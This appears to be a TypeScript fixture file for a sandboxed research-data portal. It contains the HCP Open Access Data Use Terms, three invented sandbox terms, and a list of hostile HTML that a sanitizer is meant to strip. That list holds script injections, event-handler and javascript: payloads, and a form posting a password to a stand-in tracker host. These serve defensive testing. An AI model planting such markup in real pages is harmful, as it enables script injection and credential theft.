/*
 * The texts as they stand in the portal's pages: plain text whose line breaks are kept, with a link.
 * The first follows the consortium's published terms; the others are made up for the sandbox.
 */

export const openAccessTerms = `WU-Minn HCP Consortium Open Access Data Use Terms
26 April 2013

I request access to data collected by the Washington University - University of Minnesota Consortium of the Human Connectome Project (WU-Minn HCP), and I agree to the following:

1. I will not attempt to establish the identity of, or attempt to contact, any of the included human subjects.

2. I understand that under no circumstances will the code that would link these data to protected health information be given to me, nor will any additional information about individual human subjects be released to me under these Open Access Data Use Terms.

3. I will comply with all relevant rules and regulations imposed by my institution. This may mean that I need my research to be approved or declared exempt by a committee that oversees research on human subjects, e.g. my IRB or Ethics Committee. Different committees operate under different national, state and local laws and may interpret regulations differently, so it is important to ask about this.

4. I may redistribute original WU-Minn HCP Open Access data and any derived data as long as the data are redistributed under these same Data Use Terms.

5. I will acknowledge the use of WU-Minn HCP data and data derived from WU-Minn HCP data when publicly presenting any results or algorithms that benefitted from their use.
   a. Papers, books, theses, presentations, posters and products should acknowledge: &quot;Data were provided [in part] by the Human Connectome Project, WU-Minn Consortium (Principal Investigators: David Van Essen and Kamil Ugurbil; 1U54MH091657) funded by the 16 NIH Institutes and Centers that support the NIH Blueprint for Neuroscience Research; and by the McDonnell Center for Systems Neuroscience at Washington University.&quot;
   b. Authors should cite the publications that describe the methods used by the HCP to acquire and process the data: <a href="https://www.humanconnectome.org/study/hcp-young-adult/document/hcp-citations">HCP citations</a>.
   c. The WU-Minn HCP Consortium as a whole should not be included as an author of publications or presentations if this authorship would be based solely on the use of WU-Minn HCP data.

6. Failure to abide by these guidelines will result in termination of my privileges to access WU-Minn HCP data.
`;

export const retestTerms = `<b>HCP Test-Retest Data Use Terms</b>
These terms are made up for the sandbox.

I agree that:
<ul><li>I will treat the second visit of a subject with the same care as the first, and will not attempt to identify or contact anyone.</li><li>I will pass the data on only under these same terms.</li><li>I will follow the <a href="https://www.humanconnectome.org/study/hcp-young-adult/data-use-terms">guidance on data use</a> and the rules of my institution.</li></ul>
Breach of these terms ends my access.
`;

export const aabcTerms = `AABC Data Use Terms
These terms are made up for the sandbox.

1. I will not attempt to identify or contact any participant.
2. I will follow the rules of my institution.
3. I will cite the <a href="https://www.humanconnectome.org/study/aabc">AABC study</a> in what I publish.
`;

export const aabcDerivedTerms = `AABC Derived Data Use Terms
These terms are made up for the sandbox.

1. What I derive from AABC data I pass on only under these terms.
2. I name the <a href="https://www.humanconnectome.org/study/aabc">release</a> that I derived it from.
`;

/** Each of these must be gone, or harmless, once a page shows the terms. */
export const hostileMarkup = `
<script>globalThis.hcpHostile = 'script'; document.title = 'hostile';</script>
<img src="https://tracker.invalid/pixel.png" onerror="globalThis.hcpHostile = 'onerror'" alt="remote">
<style>body { display: none !important; }</style>
<form action="https://tracker.invalid/collect" method="post"><input name="password"><button>Continue</button></form>
<iframe src="https://tracker.invalid/frame"></iframe>
<a href="javascript:globalThis.hcpHostile = 'link'">a link that runs a script</a>
<meta http-equiv="refresh" content="0; url=https://tracker.invalid/">
<svg><script>globalThis.hcpHostile = 'svg'</script></svg>
<p style="background: url(https://tracker.invalid/style.png)" onclick="globalThis.hcpHostile = 'onclick'">a styled paragraph</p>
<object data="https://tracker.invalid/object"></object><embed src="https://tracker.invalid/embed"><base href="https://tracker.invalid/">
`;
